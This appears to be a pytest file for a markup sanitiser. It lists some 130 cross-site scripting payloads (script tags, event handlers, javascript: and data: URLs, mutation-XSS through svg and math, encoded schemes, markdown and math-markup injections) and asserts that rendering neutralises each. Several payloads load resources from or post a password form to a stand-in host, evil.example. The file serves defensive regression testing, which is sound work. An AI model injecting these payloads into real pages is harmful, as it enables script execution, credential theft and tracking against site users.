"""Texts that try to get something live into a page. Any successor of the sanitiser must pass these."""

import pytest

from qa.markup import render, render_comment, sanitise

ATTACKS = (
    r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src="/media/a.png" onload=alert(1) onerror=alert(2)>
<img src="/media/../../logout">
<img src="/media/\evil.example/x.png">
<img src="//evil.example/track.png">
<img src="/\evil.example/track.png">
<img src="data:image/svg+xml;base64,PHN2Zy8+">
<img srcset="https://evil.example/x.png 1x" src="/media/a.png">
![x](javascript:alert(1))
![x](https://evil.example/t.gif)
![x](//evil.example/t.gif "t")
![" onerror="alert(1)](/media/a.png)
![x](/media/a.png " onerror=alert(1) ")
![x](/media/a.png '"><script>alert(1)</script>')
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A;&#x61;vascript&colon;alert(1))
[x](java&Tab;script:alert(1))
[x](java&NewLine;script:alert(1))
[x](<java script:alert(1)>)
[x](\x01javascript:alert(1))
[x]( javascript:alert(1) )
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](blob:https://a.example/1)
[x](view-source:javascript:alert(1))
[x][r]⏎⏎[r]: javascript:alert(1)
[x][r]⏎⏎[r]: <data:text/html,<script>alert(1)</script>>
[r]⏎⏎[r]: https://a.example/ "\"><script>alert(1)</script>"
[x](https://a.example/"onmouseover="alert(1))
[x](https://a.example/⏎"onmouseover=alert(1))
[<img src=x onerror=alert(1)>](https://a.example)
[x](<https://a.example/><script>alert(1)</script>)
<https://a.example/"onclick="alert(1)>
<javascript:alert(1)>
<javascript&colon;alert(1)>
https://a.example/"onmouseover="alert(1)
https://a.example/<script>alert(1)</script>
www.a.example/'onclick='alert(1)
<a href="javascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href=`javascript:alert(1)`>x</a>
<a href="https://a.example" target=_top ping=//evil.example onclick=alert(1) style=position:fixed>x</a>
<a href="//evil.example" rel="opener">x</a>
<a id=documentElement name=forms href=#>x</a>
<p id="content" name="csrfmiddlewaretoken" class="btn mention" style="background:url(//evil.example)">x</p>
<b onmouseover=alert(1)>x</b>
<b/onclick=alert(1)>x</b>
<b title="x" onclick	=	alert(1)>x</b>
<kbd lang='"><script>alert(1)</script>' dir="x" class="site-header">x</kbd>
<svg><script>alert(1)</script></svg>
<svg onload=alert(1)>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi><style><img src=x onerror=alert(1)></style></mi></math>
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><maction actiontype="statusline#javascript:alert(1)">x</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<template><script>alert(1)</script></template>
<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>
<title><img title="</title><img src onerror=alert(1)>"></title>
<xmp><p title="</xmp><img src onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<style>@import '//evil.example/x.css';</style>
<style><!--</style><img src=x onerror=alert(1)>-->
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="//evil.example/">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">
<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>
<button onclick=alert(1)>x</button><input autofocus onfocus=alert(1)><select onfocus=alert(1) autofocus>
<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)><frameset onload=alert(1)>
<div class="table-scroll" style="position:fixed;inset:0"><a href=//evil.example>x</a></div>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?><script>alert(1)</script>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<img src="x` `<script>alert(1)</script>"` `>
<img title='`' src=x onerror=alert(1) alt='`'>
<b `onclick=alert(1)`>x</b>
```js"onclick="alert(1)⏎x⏎```
```</code></pre><script>alert(1)</script>⏎x⏎```
```html⏎</code></pre><script>alert(1)</script>⏎```
~~~ <img src=x onerror=alert(1)>⏎x⏎~~~
`</code><script>alert(1)</script>`
>! <script>alert(1)</script>
>! </details><img src=x onerror=alert(1)>
@<script>alert(1)</script>
@bob"onclick="alert(1)
[tag:<script>alert(1)</script>]
[tag:x"onclick="alert(1)]
[tag:javascript:alert(1)]
$\text{<script>alert(1)</script>}$
$\href{javascript:alert(1)}{x}$
$\style{background:url(//evil.example)}{x}$ $\class{btn}{y}$
$\color{red"onclick="alert(1)}{x}$
$</math><script>alert(1)</script>$
$$\text{</mtext></math><img src=x onerror=alert(1)>}$$
<a title="$x$" href="$y$">$z$</a>
![$x$](/media/a.png "$y$")
[x](https://a.example/$a$ "$b$")
| <script>alert(1)</script> | a |⏎|-|-|⏎| <img src=x onerror=alert(1)> | `|` |
# <script>alert(1)</script> {onclick=alert(1)}
Term⏎: <script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
＜script＞alert(1)＜/script＞
<ſcript>alert(1)</ſcript>
<a href=https://a.example/?x=&quot;><script>alert(1)</script>
<a <b <c onclick=alert(1)>
<a href="x
<img src="
</p></article></main><script>alert(1)</script>
<table><a href=javascript:alert(1)>x<td>y</table>
<table background="javascript:alert(1)"><td background=//evil.example>
""".strip("\n")
    .replace("\\x01", "\x01")
    .split("\n")
)


def _payloads() -> list[str]:
    return [attack.replace("⏎", "\n") for attack in ATTACKS]


@pytest.mark.parametrize("payload", _payloads())
def test_attack_is_harmless(payload, assert_harmless):
    everybody = lambda names: {name: f"/users/1/{name}" for name in names}  # noqa: E731
    for text in (payload, f"a {payload} b", f"> {payload}", f"- {payload}\n\n{payload}", f"*{payload}*", f"`{payload}"):
        assert_harmless(render(text, mentions=everybody))
        assert_harmless(render_comment(text, mentions=everybody))


@pytest.mark.parametrize("payload", _payloads())
def test_foreign_html_is_harmless(payload, assert_harmless):
    assert_harmless(sanitise(payload))


def test_the_corpus_is_large():
    assert len(ATTACKS) >= 120


@pytest.mark.parametrize("name", ["owasp_filter_evasion", "rails_html_sanitizer", "blns"])
def test_public_attacks_are_harmless(name, suite, assert_harmless):
    for case in suite(name):
        assert_harmless(render(case["payload"]))
        assert_harmless(render_comment(case["payload"]))
        assert_harmless(sanitise(case["payload"]))


def test_a_judge_that_sees_nothing_would_be_no_judge(assert_harmless):
    for html in ("<script>", '<a href="java\tscript:x">', "<b onclick=x>", "<!-- x -->", '<img src="//x">', "\x02"):
        with pytest.raises(AssertionError):
            assert_harmless(html)
